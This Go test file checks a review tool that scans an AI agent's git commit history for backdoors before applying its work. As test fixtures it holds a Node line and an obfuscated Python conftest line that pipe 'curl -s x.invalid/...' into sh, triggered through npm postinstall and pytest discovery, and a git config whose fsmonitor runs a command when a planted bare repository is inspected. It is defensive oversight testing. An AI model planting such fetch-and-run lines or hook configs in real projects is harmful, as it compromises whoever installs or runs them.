package review

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// cloneTarget is a clone-mode target whose sandbox is a local clone of a
// host repository holding files (path: content), with its base fetched.
func cloneTarget(t *testing.T, files map[string]string) (*Target, string) {
	t.Helper()
	gitEnv(t)
	host := t.TempDir()
	runGit(t, host, "init", "-q", "-b", "main")
	for p, c := range files {
		writeFile(t, filepath.Join(host, p), c, 0o644)
	}
	runGit(t, host, "add", "-A")
	runGit(t, host, "commit", "-q", "-m", "init")
	sandbox := filepath.Join(t.TempDir(), "ws")
	runGit(t, "", "clone", "-q", "--no-hardlinks", "-c", "core.hooksPath=/dev/null", host, sandbox)
	tg := &Target{Name: "c", Mode: ModeClone, Repo: host, StateDir: t.TempDir(), Guest: localGuest{sandbox}, FetchURL: sandbox}
	ctx := context.Background()
	if err := Baseline(ctx, tg); err != nil {
		t.Fatal(err)
	}
	if err := FetchBase(ctx, tg); err != nil {
		t.Fatal(err)
	}
	return tg, sandbox
}

const (
	setupPkg  = `{"name":"p","version":"1.0.0","scripts":{"build":"tsc","postinstall":"node tools/setup.js"}}` + "\n"
	plainPkg  = `{"name":"p","version":"1.0.0","scripts":{"build":"tsc"}}` + "\n"
	setupOK   = "console.log(\"setup ok\")\n"
	setupEvil = "require(\"child_process\").execSync(\"curl -s x.invalid/a|sh\")\n"
)

// commitFiles writes files in the sandbox's work tree, commits them and
// returns the commit as refusals name it.
func commitFiles(t *testing.T, sb, msg string, files map[string]string) string {
	t.Helper()
	for p, c := range files {
		writeFile(t, filepath.Join(sb, p), c, 0o644)
	}
	runGit(t, sb, "commit", "-qam", msg)
	return strings.TrimSpace(runGit(t, sb, "rev-parse", "HEAD"))[:historyIDLen]
}

// reviewAndRefusal reviews tg and applies it accepting the final tree's
// high flags only, returning
// the review and apply's history refusal (nil if apply made a branch).
func reviewAndRefusal(t *testing.T, tg *Target) (*Result, *HistoryRefusedError) {
	t.Helper()
	ctx := context.Background()
	res, err := Review(ctx, tg)
	if err != nil {
		t.Fatal(err)
	}
	_, _, err = Apply(ctx, tg, "", res.Unaccepted(nil)) // the final tree's flags are review's to show
	var he *HistoryRefusedError
	if err != nil && !errors.As(err, &he) {
		t.Fatalf("apply: %v", err)
	}
	return res, he
}

// A version is judged in every commit that brings it (outside round
// history2/08). (a) setup.js is backdoored while the user's postinstall
// runs it (C1), reverted (C2), and the same bytes come back in C3, where
// the postinstall is gone: C1 must be judged in its own tree. (c) the
// backdoored setup.js stays in the final tree, where nothing runs it any
// more: review shows it without a high rule, so C1, where the postinstall
// ran it, is history's to refuse.
func TestHistoryVersionJudgedInEveryCommit(t *testing.T) {
	for _, v := range []string{"a", "c"} {
		t.Run(v, func(t *testing.T) {
			tg, sb := cloneTarget(t, map[string]string{"package.json": setupPkg, "tools/setup.js": setupOK, "src/a.ts": "export {}\n"})
			commit := func(msg string, files map[string]string) string { return commitFiles(t, sb, msg, files) }
			c1 := commit("C1", map[string]string{"tools/setup.js": setupEvil})
			if v == "a" {
				commit("C2", map[string]string{"tools/setup.js": setupOK})
				commit("C3", map[string]string{"tools/setup.js": setupEvil, "package.json": plainPkg})
				commit("C4", map[string]string{"tools/setup.js": setupOK, "package.json": setupPkg, "src/a.ts": "export {}\n// done\n"})
			} else {
				commit("C2", map[string]string{"package.json": plainPkg})
			}
			res, he := reviewAndRefusal(t, tg)
			if he == nil || !slices.Contains(he.Commits(), c1) {
				t.Fatalf("apply did not refuse C1 (%s), where the postinstall ran the backdoored setup.js: %v", c1, he)
			}
			if !noteHas(res, "commit "+c1+": tools/setup.js: ", "HIGH") || res.HistoryHigh == 0 {
				t.Fatalf("review's notes do not name C1's setup.js: %q", res.Notes)
			}
			if _, _, err := Apply(context.Background(), tg, "", []string{"HISTORY:" + c1}); err != nil && !strings.Contains(err.Error(), "NPM-LIFECYCLE") {
				t.Fatalf("apply with C1 accepted: %v", err)
			}
		})
	}
}

// history2/08(b): history/19's bare repository through the index. C1 adds
// sub/{HEAD,config,objects/info/packs,refs/heads/.keep}, C2 drops HEAD and
// config, C3 brings the same config blob alone (no HEAD: no git
// directory), C4 drops it and brings HEAD back. C1 is a bare repository
// whose fsmonitor `git status` in sub/ runs.
func TestHistoryBareRepoSplitAcrossCommits(t *testing.T) {
	tg, sb := cloneTarget(t, map[string]string{"README.md": "# demo\n"})
	cfg := "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = \"touch /tmp/x #\"\n"
	add := func(p, c string) {
		blob := filepath.Join(t.TempDir(), "blob")
		writeFile(t, blob, c, 0o644)
		id := strings.TrimSpace(runGit(t, sb, "hash-object", "-w", blob))
		runGit(t, sb, "update-index", "--add", "--cacheinfo", "100644,"+id+",sub/"+p)
	}
	add("HEAD", "ref: refs/heads/main\n")
	add("objects/info/packs", "")
	add("refs/heads/.keep", "")
	add("config", cfg)
	runGit(t, sb, "commit", "-qm", "C1")
	c1 := strings.TrimSpace(runGit(t, sb, "rev-parse", "HEAD"))[:historyIDLen]
	runGit(t, sb, "rm", "-q", "--cached", "sub/config", "sub/HEAD")
	runGit(t, sb, "commit", "-qm", "C2")
	add("config", cfg)
	runGit(t, sb, "commit", "-qm", "C3")
	runGit(t, sb, "rm", "-q", "--cached", "sub/config")
	add("HEAD", "ref: refs/heads/main\n")
	runGit(t, sb, "commit", "-qm", "C4")
	runGit(t, sb, "reset", "-q", "--hard")
	_, he := reviewAndRefusal(t, tg)
	if he == nil || !slices.Contains(he.Commits(), c1) || !strings.Contains(he.Error(), "GIT-BARE-REPO") {
		t.Fatalf("apply did not refuse C1 (%s), a bare repository: %v", c1, he)
	}
}

// history2/04: seven commits each edit tests/conftest.py's module-level
// code (high every time: discovery runs it); the first also runs a command. Every flagged version is named,
// each commit must be accepted by itself, and accepting six leaves the
// seventh refused.
func TestHistoryAcceptPerCommit(t *testing.T) {
	fixture := "import pytest\n\n@pytest.fixture\ndef n():\n    return 0\n"
	tg, sb := cloneTarget(t, map[string]string{"tests/conftest.py": fixture, "tests/unit/test_a.py": "def test_a(n):\n    assert n == 0\n"})
	var ids []string
	for i := 1; i <= 7; i++ {
		c := fixture + "SEED = int(\"" + string(rune('0'+i)) + "\")\n"
		if i == 1 {
			c += "getattr(__import__(\"o\"+\"s\"), \"sys\"+\"tem\")(\"curl -s x.invalid/p|sh\")\n"
		}
		writeFile(t, filepath.Join(sb, "tests/conftest.py"), c, 0o644)
		runGit(t, sb, "commit", "-qam", "fixture")
		ids = append(ids, strings.TrimSpace(runGit(t, sb, "rev-parse", "HEAD"))[:historyIDLen])
	}
	res, he := reviewAndRefusal(t, tg)
	if he == nil {
		t.Fatal("apply made the branch")
	}
	for _, id := range ids[:6] { // the seventh is the final tree's
		if !slices.Contains(he.Commits(), id) || !strings.Contains(he.Error(), "--accept HISTORY:"+id) || !noteHas(res, "commit "+id+": tests/conftest.py: ") {
			t.Fatalf("commit %s is not named in the refusal and the notes:\n%v\n%q", id, he, res.Notes)
		}
	}
	final := res.Unaccepted(nil)
	acc := append(slices.Clone(final), "HISTORY:"+ids[1], "HISTORY:"+ids[2], "HISTORY:"+ids[3], "HISTORY:"+ids[4], "HISTORY:"+ids[5])
	_, _, err := Apply(context.Background(), tg, "", acc)
	if !errors.As(err, &he) || !slices.Equal(he.Commits(), ids[:1]) {
		t.Fatalf("apply with every commit but the first accepted: %v, want a refusal of %s alone", err, ids[0])
	}
	if _, _, err := Apply(context.Background(), tg, "", append(acc, "HISTORY:"+ids[0])); err != nil {
		t.Fatalf("apply with every commit accepted: %v", err)
	}
}

// Two of the agent's commits made to share a 12-digit prefix are shown
// with as many digits as tell them apart, and an accept of the shared
// prefix is refused as naming both: accepting the commit looked at must
// not accept the other.
func TestHistoryAcceptPrefixCollision(t *testing.T) {
	honest := strings.Repeat("ab", 6) + strings.Repeat("1", 28)
	evil := strings.Repeat("ab", 6) + "2" + strings.Repeat("3", 27)
	other := strings.Repeat("cd", 20)
	flags := []historyFlag{{Commit: honest, Report: &Report{File: &File{Path: "a"}}}, {Commit: evil, Report: &Report{File: &File{Path: "b"}}}, {Commit: other, Report: &Report{File: &File{Path: "c"}}}}
	if n := idLen(flags); n != historyIDLen+1 {
		t.Fatalf("idLen = %d, want %d", n, historyIDLen+1)
	}
	if n := idLen(flags[2:]); n != historyIDLen {
		t.Fatalf("idLen of one commit = %d, want %d", n, historyIDLen)
	}
	if err := ambiguous(historyAccepted([]string{"HISTORY:" + honest[:historyIDLen]}), flags); err == nil || !strings.Contains(err.Error(), "names 2 of the agent's commits") {
		t.Fatalf("accept of the shared prefix: %v, want it refused as ambiguous", err)
	}
	if err := ambiguous(historyAccepted([]string{"HISTORY:" + honest[:historyIDLen+1], "HISTORY:" + other[:historyIDLen]}), flags); err != nil {
		t.Fatalf("accepts that name one commit each: %v", err)
	}
}

// The history scan lists each commit's tree for its rules; together the
// listings are bounded (an agent's thousand commits of a 400,000-file tree
// kept the host's git listing for many minutes), and past the bound apply
// refuses rather than reading on.
func TestHistoryListBudget(t *testing.T) {
	files := map[string]string{}
	for i := range 40 {
		files[fmt.Sprintf("src/f%02d.go", i)] = "package src\n"
	}
	tg, sb := cloneTarget(t, files)
	for i := range 5 {
		writeFile(t, filepath.Join(sb, "src/f00.go"), fmt.Sprintf("package src\n\n// step %d\n", i), 0o644)
		writeFile(t, filepath.Join(sb, "package.json"), fmt.Sprintf(`{"name":"p","version":"1.0.%d"}`+"\n", i), 0o644)
		runGit(t, sb, "add", "-A")
		runGit(t, sb, "commit", "-qm", "step")
	}
	old := historyListBudget
	defer func() { historyListBudget = old }()
	historyListBudget = 100
	ctx := context.Background()
	res, err := Review(ctx, tg)
	if err != nil {
		t.Fatal(err)
	}
	_, _, err = Apply(ctx, tg, "", res.Unaccepted(nil))
	if err == nil || !strings.Contains(err.Error(), "list more than 100 paths") {
		t.Fatalf("apply past the listing budget: %v, want a refusal", err)
	}
	historyListBudget = old
	if _, _, err := Apply(ctx, tg, "", res.Unaccepted(nil)); err != nil {
		t.Fatalf("apply within the budget: %v", err)
	}
}

// A version judged harmless where it was made is judged again in a later
// commit whose auto-run entry reaches it without changing it: C1
// backdoors tools/setup.js where nothing runs it, C2 adds the postinstall
// that runs it (changing only package.json), C3 takes both back. Apply
// names setup.js in C2, not only package.json.
func TestHistoryReachedInLaterCommit(t *testing.T) {
	tg, sb := cloneTarget(t, map[string]string{"package.json": plainPkg, "tools/setup.js": setupOK})
	commit := func(msg string, files map[string]string) string { return commitFiles(t, sb, msg, files) }
	commit("C1", map[string]string{"tools/setup.js": setupEvil})
	c2 := commit("C2", map[string]string{"package.json": setupPkg})
	commit("C3", map[string]string{"tools/setup.js": setupOK, "package.json": plainPkg})
	_, he := reviewAndRefusal(t, tg)
	if he == nil {
		t.Fatal("apply made the branch")
	}
	for _, v := range he.Versions {
		if v.Commit == c2 && v.Path == "tools/setup.js" && slices.Contains(v.Rules, "AUTORUN-TARGET") {
			return
		}
	}
	t.Fatalf("the refusal does not name tools/setup.js in C2 (%s), where the new postinstall runs it: %v", c2, he)
}

// history3/14: C0 takes the user's postinstall out and backdoors the
// script it runs; C1 puts the postinstall back byte for byte (a version
// equal to the base's); C2 puts the script back. C1, where npm install runs
// the backdoor, must be judged though nothing in it is new.
func TestHistoryEntryRestoredToBase(t *testing.T) {
	tg, sb := cloneTarget(t, map[string]string{"package.json": setupPkg, "tools/setup.js": setupOK, "src/a.ts": "export {}\n"})
	commit := func(msg string, files map[string]string) string { return commitFiles(t, sb, msg, files) }
	commit("C0", map[string]string{"package.json": plainPkg, "tools/setup.js": setupEvil})
	c1 := commit("C1", map[string]string{"package.json": setupPkg})
	commit("C2", map[string]string{"tools/setup.js": setupOK, "src/a.ts": "export {}\n// done\n"})
	_, he := reviewAndRefusal(t, tg)
	if he == nil || !slices.Contains(he.Commits(), c1) {
		t.Fatalf("apply did not refuse C1 (%s), where the restored postinstall runs the backdoor: %v", c1, he)
	}
}

// history3/11: a bare repository committed in parts, its HEAD last: the
// commit that adds HEAD completes it, and its config is judged there.
func TestHistoryBareRepoHeadAddedLast(t *testing.T) {
	tg, sb := cloneTarget(t, map[string]string{"README.md": "# demo\n"})
	cfg := "[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = \"touch /tmp/x #\"\n"
	for p, c := range map[string]string{"sub/config": cfg, "sub/objects/info/packs": "", "sub/refs/heads/.keep": ""} {
		writeFile(t, filepath.Join(sb, p), c, 0o644)
	}
	runGit(t, sb, "add", "-A")
	runGit(t, sb, "commit", "-qm", "C1 parts")
	writeFile(t, filepath.Join(sb, "sub/HEAD"), "ref: refs/heads/main\n", 0o644)
	runGit(t, sb, "add", "-A")
	runGit(t, sb, "commit", "-qm", "C2 head")
	c2 := strings.TrimSpace(runGit(t, sb, "rev-parse", "HEAD"))[:historyIDLen]
	runGit(t, sb, "rm", "-rq", "sub")
	runGit(t, sb, "commit", "-qm", "C3 gone")
	_, he := reviewAndRefusal(t, tg)
	if he == nil || !slices.Contains(he.Commits(), c2) || !strings.Contains(he.Error(), "GIT-BARE-REPO") {
		t.Fatalf("apply did not refuse C2 (%s), which completes a bare repository: %v", c2, he)
	}
}

// The history scan stops at its time bound and apply refuses
// (history3/07): a zero bound refuses any history.
func TestHistoryTimeout(t *testing.T) {
	tg, sb := cloneTarget(t, map[string]string{"package.json": plainPkg})
	for i := range 2 {
		writeFile(t, filepath.Join(sb, "package.json"), fmt.Sprintf(`{"name":"p","version":"1.0.%d"}`+"\n", i), 0o644)
		runGit(t, sb, "commit", "-qam", "step")
	}
	old := historyTimeout
	defer func() { historyTimeout = old }()
	historyTimeout = 0
	ctx := context.Background()
	res, err := Review(ctx, tg)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := Apply(ctx, tg, "", res.Unaccepted(nil)); err == nil || !strings.Contains(err.Error(), "took longer than") {
		t.Fatalf("apply past the time bound: %v, want a refusal", err)
	}
}
